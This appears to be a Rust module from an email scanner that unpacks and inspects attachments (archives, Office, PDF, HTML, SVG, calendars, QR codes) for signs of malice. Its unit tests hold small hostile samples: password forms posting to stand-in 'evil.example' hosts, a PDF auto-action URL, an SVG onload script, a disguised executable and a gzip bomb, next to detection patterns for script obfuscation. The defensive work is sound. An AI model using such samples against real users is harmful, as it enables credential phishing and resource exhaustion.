//! Attached files: what they are whatever they are called, what they hold, and what in them runs.
//!
//! Files in files (archives, `winmail.dat`, documents) are taken out and looked at in turn, from a queue rather
//! than by recursion, at most [`FILES_MAX`] files nested [`DEPTH_MAX`] deep, inflated to [`INFLATED_BYTES_MAX`]
//! bytes together. No archive's statement about sizes is believed, and nothing is written anywhere. What is gone over
//! is charged to the message's budget: bytes attached, bytes inflated, files, links.
//!
//! Pictures wait until all else of the message was read, as what is left of the budget decides how many are unpacked to look
//! for QR codes in them.

mod calendar;
mod container;
mod file_name;
mod file_type;
mod grey_image;
mod image_reader;
mod office;
mod pdf;
mod png;
mod qr_code;
mod similarity;
mod zip;

use std::borrow::Cow;
use std::collections::VecDeque;

use data_encoding::HEXLOWER;
use event::{Facts, Slot};
use memchr::memmem;
use sha2::{Digest, Sha256};

use crate::budget::Budget;
use crate::deflate;
use crate::field::{ITEM_BYTES_MAX, ITEMS_MAX};
use crate::mail::columns::{MESSAGE_BYTES_MAX, MailColumns};
use crate::mail::mime::{Defects, MimePart, PartRole};
use crate::text::truncate;
use crate::web::html::{self, PageLimits};
use crate::web::link::{self, Link, TextReference};
use file_name::FileName;
use file_type::FileType;
use grey_image::UnreadImage;
use image_reader::PdfImage;

/// Most files that are looked at, those in others included.
pub const FILES_MAX: usize = 1_000;
/// Most archives and documents around a file that is looked at.
pub const DEPTH_MAX: usize = 4;
/// Most bytes that all files of a message are inflated to.
pub const INFLATED_BYTES_MAX: usize = 8 * 1024 * 1024;
/// Most bytes that one file is inflated to.
const FILE_INFLATED_BYTES_MAX: usize = 2 * 1024 * 1024;
/// Most bytes of a page, a calendar or a list of relations that are read.
const TEXT_BYTES_MAX: usize = 256 * 1024;
/// The ratio above which a file is packed to do harm: it inflates to more than this many times its size, and to more than a
/// megabyte.
const RATIO_MAX: usize = 100;
/// Most pictures that wait to be looked at, and most bytes of one.
const IMAGES_MAX: usize = 64;
const IMAGE_BYTES_MAX: usize = 8 * 1024 * 1024;
/// Smaller files are no picture of a code; those of logos and lines are not unpacked.
const IMAGE_BYTES_MIN: usize = 100;
/// Steps of a file: its name, its kind, its place in lists.
const FILE_STEPS: u64 = 5_000;
/// Steps of a byte that is decoded and summed up.
const STEPS_A_PART_BYTE: u64 = 3;
/// Steps of a byte of a file that is cut into pieces, or looked over by a reader that looks for a few words.
const STEPS_A_FILE_BYTE: u64 = 2;
/// Steps to copy a file that is in another, whose bytes go eight a step.
const COPY_STEPS: u64 = 100;
/// Steps of a byte of a page, a calendar or a list of relations.
const STEPS_A_TEXT_BYTE: u64 = 10;
/// Steps of a link.
const LINK_STEPS: u64 = 3_000;

/// A file that waits to be looked at.
struct QueuedFile<'f> {
    name: Option<String>,
    media_type: &'f str,
    content: Cow<'f, [u8]>,
    depth: usize,
}

/// A picture that waits to be looked at.
#[derive(Debug)]
struct QueuedImage {
    form: ImageForm,
    data: Vec<u8>,
}

/// The form in which a picture is stored.
#[derive(Clone, Copy, Debug)]
enum ImageForm {
    File(FileType),
    Pdf(PdfImage),
}

/// The findings about QR codes.
#[derive(Debug, Default)]
struct QrCodeFindings {
    count: usize,
    links: Vec<String>,
    link_domains: Vec<String>,
}

/// The findings about the attachments of a message.
#[derive(Debug, Default)]
pub(crate) struct Attachments {
    count: usize,
    names: Vec<String>,
    types: Vec<String>,
    sums: Vec<String>,
    kinds: Vec<String>,
    pieces: Vec<String>,
    images: Vec<String>,
    links: Vec<String>,
    link_domains: Vec<String>,
    executable: bool,
    executable_content: bool,
    double: bool,
    obfuscated: bool,
    belied: bool,
    packed: ArchiveFindings,
    office: office::OfficeFindings,
    pdf: pdf::PdfFindings,
    page: HtmlFindings,
    invitation: calendar::CalendarInvitation,
    calendar_links: Vec<String>,
    calendar_link_domains: Vec<String>,
    images_waiting: Vec<QueuedImage>,
    images_unread: bool,
    codes: QrCodeFindings,
    /// Texts whose links are those of the message: what is in QR codes and invitations, which readers open as they are.
    shown: Vec<String>,
    files: usize,
    inflatable: usize,
}

/// The findings about the files that are packed into archives.
#[derive(Debug, Default)]
struct ArchiveFindings {
    names: Vec<String>,
    depth: usize,
    executable: bool,
    is_encrypted: bool,
    is_bomb: bool,
    is_inconsistent: bool,
    is_unread: bool,
}

/// The findings about what attached pages do.
#[derive(Debug, Default)]
struct HtmlFindings {
    is_there: bool,
    runs: bool,
    asks: bool,
    /// True if a page makes a page or file out of its own text, which no filter on the way has seen.
    builds: bool,
    /// True if a form is sent to another host.
    posts: bool,
    /// True if a page goes on to another by itself.
    leads: bool,
    /// True if an SVG image runs a script or holds a page.
    svg_runs: bool,
}

/// Adds an item to a list without repeats, of at most [`ITEMS_MAX`].
fn add(list: &mut Vec<String>, item: &str) {
    let item = truncate(item.trim(), ITEM_BYTES_MAX);
    if !item.is_empty() && list.len() < ITEMS_MAX && !list.iter().any(|known| known == item) {
        list.push(item.to_owned());
    }
}

fn sum(content: &[u8]) -> String {
    HEXLOWER.encode(&Sha256::digest(content))
}

impl Attachments {
    /// Looks at the parts that are files.
    pub(crate) fn read(parts: &[MimePart<'_>], budget: &Budget, defects: &mut Defects) -> Attachments {
        let mut found = Attachments { inflatable: INFLATED_BYTES_MAX, ..Attachments::default() };
        for part in parts.iter().filter(|part| part.role == PartRole::Attachment || part.name.is_some()) {
            found.count += 1;
            add(&mut found.types, &part.media_type);
            let bytes = budget.afford(part.encoded_len().min(MESSAGE_BYTES_MAX), STEPS_A_PART_BYTE);
            let content = part.decode(bytes, defects);
            if !content.is_empty() {
                add(&mut found.sums, &sum(&content));
            }
            // What is shown is read as text, unless it only says that it is text.
            let is_shown = part.role != PartRole::Attachment
                && matches!(
                    FileType::of(&content),
                    FileType::Text | FileType::Html | FileType::Svg | FileType::Message | FileType::Data
                );
            if !is_shown {
                let name = part.name.clone();
                found.look(QueuedFile { name, media_type: &part.media_type, content, depth: 0 }, budget);
            } else if let Some(name) = &part.name {
                found.name(name, 0);
            }
        }
        found
    }

    /// Looks at a file and at those in it.
    fn look(&mut self, file: QueuedFile<'_>, budget: &Budget) {
        let mut waiting = VecDeque::from([file]);
        while let Some(file) = waiting.pop_front() {
            self.files += 1;
            if self.files > FILES_MAX || !budget.spend(FILE_STEPS) {
                self.packed.is_unread = true;
                return;
            }
            let mut kind = FileType::of(&file.content);
            let name = file.name.as_deref().map(|name| self.name(name, file.depth)).unwrap_or_default();
            self.packed.depth = self.packed.depth.max(file.depth);
            // A page needs no more than a form to be one.
            if kind == FileType::Text && name.is_page() {
                kind = FileType::Html;
            }
            self.belied |= kind.belies(name.ending(), file.media_type);
            match kind {
                FileType::Zip => kind = self.unzip(&file, &mut waiting, budget),
                FileType::Gzip => self.gunzip(&file, &mut waiting, budget),
                FileType::Tar => {
                    for (name, content) in container::tar(&file.content) {
                        self.put(&mut waiting, &file, Some(name), content, budget);
                    }
                }
                FileType::Tnef => {
                    for (name, content) in container::tnef(&file.content) {
                        self.put(&mut waiting, &file, name, content, budget);
                    }
                }
                FileType::Ole => {
                    let found = office::compound(budget.cut_bytes(&file.content, STEPS_A_FILE_BYTE));
                    kind = if found.installs { FileType::Installer } else { kind };
                    self.office_found(found);
                }
                FileType::Rtf => {
                    self.office_found(office::rich_text(budget.cut_bytes(&file.content, STEPS_A_FILE_BYTE)));
                }
                FileType::Pdf => self.pdf(&file.content, budget),
                FileType::Html | FileType::Svg => self.page(kind, &file.content, budget),
                FileType::Calendar => self.calendar(&file.content, budget),
                _ if kind.packs() => self.packed.is_unread = true,
                _ => {}
            }
            add(&mut self.kinds, kind.name());
            self.executable_content |= kind.runs();
            self.packed.executable |= kind.runs() && file.depth > 0;
            let packs = kind.packs() || kind == FileType::Office;
            if !packs && budget.spend(STEPS_A_FILE_BYTE * file.content.len() as u64) {
                self.alike(kind, &file.content);
            }
            if kind.is_image() {
                self.queue(ImageForm::File(kind), file.content.len(), || file.content.into_owned(), budget);
            }
        }
    }

    /// Notes what files that are nearly the same share with this one.
    fn alike(&mut self, kind: FileType, content: &[u8]) {
        if kind.is_image() {
            add(&mut self.images, &similarity::of_image(kind, content).unwrap_or_default());
        } else {
            similarity::of_file(content).for_each(|piece| add(&mut self.pieces, &piece));
        }
    }

    /// Lets a picture wait.
    fn queue(&mut self, form: ImageForm, bytes: usize, data: impl FnOnce() -> Vec<u8>, budget: &Budget) {
        if bytes < IMAGE_BYTES_MIN {
            return;
        }
        let is_full = self.images_waiting.len() == IMAGES_MAX || bytes > IMAGE_BYTES_MAX;
        if is_full || !budget.spend(COPY_STEPS + bytes as u64 / 8) {
            self.images_unread = true;
            return;
        }
        self.images_waiting.push(QueuedImage { form, data: data() });
    }

    /// Looks for QR codes in the pictures, the smallest files first: of what the budget has, they give most.
    pub(crate) fn read_codes(&mut self, budget: &Budget) {
        let mut images = std::mem::take(&mut self.images_waiting);
        images.sort_by_key(|image| image.data.len());
        for QueuedImage { form, data } in images {
            let image = match form {
                ImageForm::File(kind) => image_reader::of_file(kind, &data, budget),
                ImageForm::Pdf(image) => image_reader::of_pdf(image, &data, budget),
            };
            match image {
                Ok(image) => qr_code::find(&image, budget, |text| {
                    self.codes.count += 1;
                    self.shown.push(truncate(&String::from_utf8_lossy(&text), ITEM_BYTES_MAX).to_owned());
                }),
                Err(unread) => self.images_unread |= unread == UnreadImage::TooLarge,
            }
        }
        for text in &self.shown[self.shown.len() - self.codes.count..] {
            link::find(budget.cut(text, link::STEPS_A_BYTE), |found| {
                if let TextReference::Url(url) = found
                    && budget.spend(LINK_STEPS)
                    && let Some(link) = Link::parse(url)
                {
                    add(&mut self.codes.link_domains, link::registrable(&link.host).unwrap_or_default());
                    add(&mut self.codes.links, &link.url);
                }
                true
            });
        }
    }

    /// Returns the texts whose links are those of the message.
    pub(crate) fn shown(&self) -> &[String] {
        &self.shown
    }

    fn name(&mut self, name: &str, depth: usize) -> FileName {
        let name = FileName::read(truncate(name, ITEM_BYTES_MAX));
        self.double |= name.is_double;
        self.obfuscated |= name.is_obfuscated;
        if depth == 0 {
            self.executable |= name.runs;
            add(&mut self.names, &name.text);
        } else {
            self.packed.executable |= name.runs;
            add(&mut self.packed.names, &name.text);
        }
        name
    }

    /// Lets a file that was in another wait, unless it lies too deep.
    fn put(
        &mut self,
        waiting: &mut VecDeque<QueuedFile<'_>>,
        around: &QueuedFile<'_>,
        name: Option<String>,
        content: impl Into<Vec<u8>> + AsRef<[u8]>,
        budget: &Budget,
    ) {
        let is_full = around.depth == DEPTH_MAX || self.files + waiting.len() >= FILES_MAX;
        if is_full || !budget.spend(COPY_STEPS + content.as_ref().len() as u64 / 8) {
            self.packed.is_unread = true;
            return;
        }
        waiting.push_back(QueuedFile {
            name,
            media_type: "",
            content: Cow::Owned(content.into()),
            depth: around.depth + 1,
        });
    }

    /// Notes how much was inflated out of how much, and whether there was more.
    fn inflated(&mut self, packed: usize, inflated: usize, more: bool) {
        self.inflatable -= inflated.min(self.inflatable);
        self.packed.is_bomb |= inflated > 1024 * 1024 && inflated / packed.max(1) > RATIO_MAX;
        self.packed.is_unread |= more;
    }

    fn unzip(
        &mut self,
        file: &QueuedFile<'_>,
        waiting: &mut VecDeque<QueuedFile<'_>>,
        budget: &Budget,
    ) -> FileType {
        let archive = zip::read(&file.content, budget);
        self.packed.is_unread |= archive.is_cut;
        similarity::of_archive(&archive).for_each(|piece| add(&mut self.pieces, &piece));
        let package = office::package(&archive);
        if let Some(found) = package {
            self.office_found(found);
        } else {
            self.packed.is_inconsistent |= archive.is_inconsistent;
        }
        for entry in &archive.entries {
            if package.is_some() && office::is_picture(&entry.name) {
                self.picture(entry, budget);
                continue;
            }
            if package.is_some() && !office::is_telling(&entry.name) || entry.name.ends_with('/') {
                continue;
            }
            let most = FILE_INFLATED_BYTES_MAX.min(self.inflatable);
            let Some((content, more)) = entry.content(most, budget) else {
                self.packed.is_encrypted |= entry.is_encrypted;
                self.packed.is_unread |= !entry.is_encrypted;
                self.name(&entry.name, file.depth + 1);
                continue;
            };
            self.inflated(entry.packed(), content.len(), more);
            if !budget.spend(STEPS_A_FILE_BYTE * content.len() as u64) {
                self.packed.is_unread = true;
                break;
            }
            if package.is_none() {
                if !more && !content.is_empty() {
                    add(&mut self.sums, &sum(&content));
                }
                self.put(waiting, file, Some(entry.name.clone()), content, budget);
            } else if entry.name.to_ascii_lowercase().ends_with(".bin") {
                // Macros and objects lie in compound files of their own.
                self.office_found(office::compound(&content));
            } else {
                let mut found = office::OfficeFindings::default();
                let mut links = Vec::new();
                office::relations(&content, &mut found, |link| links.push(link.to_owned()));
                self.office_found(found);
                self.links(&links, budget);
            }
        }
        let has = |name: &str| archive.entries.iter().any(|entry| entry.name == name);
        match package {
            Some(_) => FileType::Office,
            None if has("META-INF/MANIFEST.MF")
                && archive.entries.iter().any(|e| e.name.ends_with(".class")) =>
            {
                FileType::JavaClass
            }
            None if has("AndroidManifest.xml") => FileType::Installer,
            None => FileType::Zip,
        }
    }

    /// Takes a picture out of a document, if it is as small as those of codes are.
    fn picture(&mut self, entry: &zip::ZipEntry<'_>, budget: &Budget) {
        const PACKED_BYTES_MAX: usize = 256 * 1024;
        let most = FILE_INFLATED_BYTES_MAX.min(self.inflatable);
        if entry.packed() > PACKED_BYTES_MAX {
            self.images_unread = true;
        } else if let Some((content, more)) = entry.content(most, budget) {
            self.inflated(entry.packed(), content.len(), more);
            self.queue(ImageForm::File(FileType::of(&content)), content.len(), || content, budget);
        }
    }

    fn gunzip(&mut self, file: &QueuedFile<'_>, waiting: &mut VecDeque<QueuedFile<'_>>, budget: &Budget) {
        let most = FILE_INFLATED_BYTES_MAX.min(self.inflatable);
        let Some((name, inflated)) = deflate::gunzip(&file.content, most, budget) else {
            self.packed.is_unread = true;
            return;
        };
        self.inflated(file.content.len(), inflated.bytes.len(), inflated.is_cut());
        let outer = || {
            let name = file.name.as_deref()?;
            let stem = name.get(..name.len().checked_sub(3)?)?;
            Some(if name.ends_with(".tgz") { format!("{stem}tar") } else { stem.to_owned() })
        };
        self.put(waiting, file, name.or_else(outer), inflated.bytes, budget);
    }

    fn office_found(&mut self, found: office::OfficeFindings) {
        self.office.macros |= found.macros;
        self.office.auto |= found.auto;
        self.office.is_encrypted |= found.is_encrypted;
        self.office.object |= found.object;
        self.office.fetches |= found.fetches;
    }

    fn pdf(&mut self, content: &[u8], budget: &Budget) {
        let mut links = Vec::new();
        let mut inflatable = self.inflatable;
        let link = |link: &str| {
            if links.len() < ITEMS_MAX {
                links.push(link.to_owned());
            }
        };
        let found = pdf::read(content, &mut inflatable, budget, link, |image, data| {
            self.queue(ImageForm::Pdf(image), data.len(), || data.to_vec(), budget);
        });
        self.inflatable = inflatable;
        self.pdf.script |= found.script;
        self.pdf.action |= found.action;
        self.pdf.launch |= found.launch;
        self.pdf.is_encrypted |= found.is_encrypted;
        self.pdf.embeds |= found.embeds;
        self.links(&links, budget);
    }

    fn page(&mut self, kind: FileType, content: &[u8], budget: &Budget) {
        let source = budget.cut_bytes(&content[..content.len().min(TEXT_BYTES_MAX)], STEPS_A_TEXT_BYTE);
        let has = |mark: &[u8]| memmem::find(source, mark).is_some();
        let any = |marks: &[&[u8]]| marks.iter().any(|mark| has(mark));
        let builds = any(&[
            b"atob(",
            b"new Blob(",
            b"msSaveOrOpenBlob",
            b"fromCharCode(",
            b"document.write(unescape(",
            b"eval(",
        ]);
        let leads = any(&[b"window.location", b"location.href", b"location.replace(", b"location.assign("]);
        let svg_runs =
            kind == FileType::Svg && any(&[b"<script", b"onload=", b"javascript:", b"<foreignObject"]);
        let source = String::from_utf8_lossy(source);
        let page = html::read(&source, PageLimits { text_bytes: 0, references: ITEMS_MAX }, budget);
        self.page.is_there = true;
        self.page.runs |= page.marks.has_script || page.marks.has_refresh || has(b"onload=");
        self.page.asks |= page.marks.has_form || page.marks.has_password;
        self.page.builds |= builds;
        self.page.posts |= page.marks.posts;
        self.page.leads |= page.marks.has_refresh || page.marks.has_script && leads;
        self.page.svg_runs |= svg_runs;
        page.references.iter().all(|reference| self.link(&reference.target, budget));
    }

    fn calendar(&mut self, content: &[u8], budget: &Budget) {
        let text = budget.cut_bytes(&content[..content.len().min(TEXT_BYTES_MAX)], STEPS_A_TEXT_BYTE);
        let mut links = Vec::new();
        let text = String::from_utf8_lossy(text);
        self.invitation = calendar::read(&text, |link| links.push(link.to_owned()), budget);
        for target in links {
            if !self.link(&target, budget) {
                break;
            }
            if let Some(link) = Link::parse(&target) {
                add(&mut self.calendar_link_domains, link::registrable(&link.host).unwrap_or_default());
                add(&mut self.calendar_links, &link.url);
            }
            add(&mut self.shown, &target);
        }
    }

    fn links(&mut self, targets: &[String], budget: &Budget) {
        targets.iter().all(|target| self.link(target, budget));
    }

    /// Adds what leads somewhere; false once there is no room for another link, or nothing to pay for it.
    fn link(&mut self, target: &str, budget: &Budget) -> bool {
        // A page's relative references lead nowhere from a mail.
        if !target.contains("://") && !target.starts_with("www.") {
            return true;
        }
        if self.links.len() == ITEMS_MAX || !budget.spend(LINK_STEPS) {
            return false;
        }
        if let Some(link) = Link::parse(target) {
            add(&mut self.link_domains, link::registrable(&link.host).unwrap_or_default());
            add(&mut self.links, &link.url);
        }
        true
    }

    /// Sets the facts.
    pub(crate) fn fill(self, columns: &MailColumns, facts: &mut Facts) {
        facts.set(columns.attachment_count, self.count);
        for (slot, is) in [
            (columns.executable_attachment, self.executable),
            (columns.executable_content, self.executable_content),
            (columns.double_extension, self.double),
            (columns.attachment_obfuscated, self.obfuscated),
            (columns.attachment_mismatch, self.belied),
            (columns.archive_executable, self.packed.executable),
            (columns.archive_encrypted, self.packed.is_encrypted),
            (columns.archive_bomb, self.packed.is_bomb),
            (columns.archive_inconsistent, self.packed.is_inconsistent),
            (columns.archive_unread, self.packed.is_unread),
            (columns.office_macros, self.office.macros),
            (columns.office_auto_macros, self.office.auto),
            (columns.office_encrypted, self.office.is_encrypted),
            (columns.office_object, self.office.object),
            (columns.office_fetches, self.office.fetches),
            (columns.pdf_script, self.pdf.script),
            (columns.pdf_action, self.pdf.action),
            (columns.pdf_launch, self.pdf.launch),
            (columns.pdf_encrypted, self.pdf.is_encrypted),
            (columns.pdf_embeds, self.pdf.embeds),
            (columns.page_attachment, self.page.is_there),
            (columns.page_attachment_script, self.page.runs),
            (columns.page_attachment_form, self.page.asks),
            (columns.page_attachment_builds, self.page.builds),
            (columns.page_attachment_posts, self.page.posts),
            (columns.page_attachment_leads, self.page.leads),
            (columns.svg_script, self.page.svg_runs),
        ] {
            facts.set(slot, is);
        }
        facts.set(columns.archive_depth, self.packed.depth);
        facts.set(columns.qr_codes, self.codes.count);
        facts.set(columns.images_unread, self.images_unread);
        let mut set = |slot: Slot, list: Vec<String>| {
            if !list.is_empty() {
                facts.set(slot, list);
            }
        };
        set(columns.attachment_names, self.names);
        set(columns.attachment_types, self.types);
        set(columns.attachment_sums, self.sums);
        set(columns.attachment_kinds, self.kinds);
        set(columns.attachment_pieces, self.pieces);
        set(columns.image_pieces, self.images);
        set(columns.archive_names, self.packed.names);
        set(columns.attachment_links, self.links);
        set(columns.attachment_link_domains, self.link_domains);
        set(columns.qr_links, self.codes.links);
        set(columns.qr_link_domains, self.codes.link_domains);
        set(columns.calendar_links, self.calendar_links);
        set(columns.calendar_link_domains, self.calendar_link_domains);
        if let Some(method) = self.invitation.method {
            facts.set(columns.calendar_method, truncate(&method, ITEM_BYTES_MAX));
        }
        if let Some(organizer) = self.invitation.organizer {
            facts.set(columns.calendar_organizer, truncate(&organizer, ITEM_BYTES_MAX));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn look(name: &str, content: &[u8]) -> Attachments {
        let mut found = Attachments { inflatable: INFLATED_BYTES_MAX, ..Attachments::default() };
        let file =
            QueuedFile { name: Some(name.into()), media_type: "", content: Cow::Borrowed(content), depth: 0 };
        found.look(file, &Budget::ample());
        found
    }

    #[test]
    fn archives_are_opened_in_turn() {
        let program = [b"MZ".as_slice(), &[0; 100]].concat();
        let inner = zip::tests::archive(&[("report.pdf.exe", &program)], None);
        let found = look("a.zip", &zip::tests::archive(&[("b.zip", &inner), ("readme.txt", b"hi")], None));
        assert_eq!(found.packed.names, ["b.zip", "readme.txt", "report.pdf.exe"]);
        assert!(found.packed.executable && found.double && found.executable_content && !found.executable);
        assert_eq!((found.packed.depth, found.kinds.len(), found.sums.len()), (2, 3, 3));
    }

    #[test]
    fn archives_are_bounded() {
        let mut raw = b"end".to_vec();
        for _ in 0..20 {
            raw = zip::tests::archive(&[("a.zip", &raw)], None);
        }
        let found = look("a.zip", &raw);
        assert!(found.packed.depth == DEPTH_MAX && found.packed.is_unread);

        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        std::io::Write::write_all(&mut encoder, &vec![b'a'; 20_000_000]).unwrap();
        let found = look("a.gz", &encoder.finish().unwrap());
        assert!(found.packed.is_bomb && found.packed.is_unread);
        assert_eq!(found.inflatable, INFLATED_BYTES_MAX - FILE_INFLATED_BYTES_MAX);
        assert_eq!(found.packed.names, ["a"]);

        let many: Vec<(String, Vec<u8>)> = (0..490).map(|n| (format!("{n}.zip"), raw.clone())).collect();
        let many: Vec<(&str, &[u8])> =
            many.iter().map(|(name, raw)| (name.as_str(), raw.as_slice())).collect();
        let found = look("a.zip", &zip::tests::archive(&many, None));
        assert!(
            found.files <= FILES_MAX + 1 && found.packed.is_unread && found.packed.names.len() == ITEMS_MAX
        );
    }

    #[test]
    fn pages_and_documents_are_looked_into() {
        let found =
            look("a.html", b"<html><script>x=atob('')</script><form action=http://evil.example.com/p>");
        assert!(found.page.is_there && found.page.runs && found.page.asks && found.page.builds);
        assert_eq!(found.link_domains, ["example.com"]);
        assert!(look("a.pdf", b"<html>").belied && !look("a.pdf", b"%PDF-1.4").belied);
        let found = look("a.pdf", b"%PDF-1.4 /OpenAction /URI (http://evil.example.com/q)");
        assert!(found.pdf.action && found.links == ["http://evil.example.com/q"]);
        let document = [("[Content_Types].xml", b"vbaProject".as_slice()), ("word/document.xml", b"")];
        let found = look("a.docm", &zip::tests::archive(&document, None));
        assert!(found.office.macros && found.kinds == ["office"]);
        let found = look("i.ics", b"BEGIN:VCALENDAR\nMETHOD:CANCEL\n");
        assert_eq!(found.invitation.method.as_deref(), Some("cancel"));
    }

    #[test]
    fn pages_are_looked_through_for_what_they_do() {
        let page = |name: &str, content: &[u8]| look(name, content).page;
        assert!(page("fax.htm", b"<form action='https://evil.example/in.php'><input type=password>").posts);
        assert!(!page("fax.txt", b"<form action='https://evil.example/in.php'>").is_there);
        assert!(
            page("a.html", b"<meta http-equiv=refresh content='0;url=https://evil.example/'><script>").leads
        );
        assert!(page("a.html", b"<script>window.location='//evil.example'</script>").leads);
        assert!(!page("a.html", b"<html>Write window.location in your script").leads);
        assert!(page("a.svg", b"<svg onload=alert(1)></svg>").svg_runs);
        assert!(page("a.svg", b"<svg><foreignObject><body/></foreignObject></svg>").svg_runs);
        assert!(!page("a.svg", b"<svg><path d='M0 0'/></svg>").svg_runs);
        assert!(!page("a.html", b"<html><script></script>").svg_runs);
    }

    /// Links of QR codes in a file.
    fn codes(name: &str, content: &[u8]) -> Vec<String> {
        let mut found = look(name, content);
        found.read_codes(&Budget::ample());
        assert_eq!(found.codes.count, found.codes.links.len(), "{name}");
        found.codes.links
    }

    #[test]
    fn codes_are_looked_for_in_images_and_documents() {
        let link = "https://login.example.com/?a=b";
        let png = corpora::qr_png(link);
        assert_eq!(codes("a.png", &png), [link]);
        let archive = zip::tests::archive(&[("a.png", &png)], None);
        assert_eq!(codes("a.zip", &archive), [link]);
        let document = [
            ("[Content_Types].xml", b"".as_slice()),
            ("word/document.xml", b""),
            ("word/media/image1.png", &png),
        ];
        assert_eq!(codes("a.docx", &zip::tests::archive(&document, None)), [link]);
        for (file, name) in [("jpeg-code", "a.jpg"), ("gif-code", "a.gif"), ("pdf-code", "a.pdf")] {
            let path = format!("{}/../../fuzz/seeds/picture/{file}", env!("CARGO_MANIFEST_DIR"));
            assert_eq!(
                codes(name, &std::fs::read(&path).unwrap()[1..]),
                ["https://example.com/login?x=1"],
                "{file}"
            );
        }
        let (side, dark) = corpora::qr_modules(link);
        let is_dark = |at: usize| dark[at / (side * 4) / 4 * side + at % (side * 4) / 4];
        let pixels: Vec<u8> = (0..side * side * 16).map(|at| if is_dark(at) { 0 } else { 255 }).collect();
        let head = format!(
            "%PDF-1.4\n1 0 obj<</Subtype/Image/Width {0}/Height {0}/BitsPerComponent 8>>stream\n",
            side * 4
        );
        assert_eq!(codes("a.pdf", &[head.as_bytes(), &pixels, b"\nendstream"].concat()), [link]);
    }

    #[test]
    fn pictures_that_cannot_be_paid_for_are_said() {
        let png = corpora::qr_png("https://example.com/");
        let mut found = look("a.png", &png);
        let budget = Budget::of_steps(30_000, &crate::budget::Cancellation::default());
        found.read_codes(&budget);
        assert!(found.codes.count == 0 && found.images_unread && !budget.is_short());
        let mut found = look("a.png", &png[..40]);
        found.read_codes(&Budget::ample());
        assert!(!found.images_unread);
    }
}
